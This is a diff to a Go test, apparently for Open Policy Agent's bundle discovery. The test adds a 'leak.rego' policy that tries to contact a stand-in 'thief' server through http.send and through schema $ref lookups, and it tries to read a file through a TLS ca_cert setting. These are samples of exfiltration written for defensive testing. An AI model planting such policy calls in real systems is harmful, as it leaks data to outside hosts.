@@ -54,7 +54,17 @@ func TestDiscoveryTakesNoFile(t *testing.T) {
 	refused("credentials")
 	config("c2", "thief", fmt.Sprintf(`, "services": [{"name": "thief", "url": %q, "TLS": {"ca_cert": %q}}]`, thief.URL, salt))
 	refused("tls")
-	config("c3", "control", `, "services": {"other": {"url": "http://127.0.0.1:1"}}`)
+	// Its Rego is evaluated by OPA itself, with all of OPA's builtins.
+	r.set("config", "c3", "-- data.json --\n{"+fmt.Sprintf(bundles, "control")+`, "services": {"other": {"url": "http://127.0.0.1:1"}}}
+-- leak.rego --
+package leak
+
+sent := http.send({"method": "POST", "url": "`+thief.URL+`", "raw_body": "x", "raise_error": false})
+
+read := json.verify_schema({"$ref": "`+thief.URL+`"})
+
+match := json.match_schema({}, {"$ref": "`+thief.URL+`"})
+`)
 	r.loaded()
 	if !r.serves("/one") {
 		t.Error("the discovered bundle is not in force")
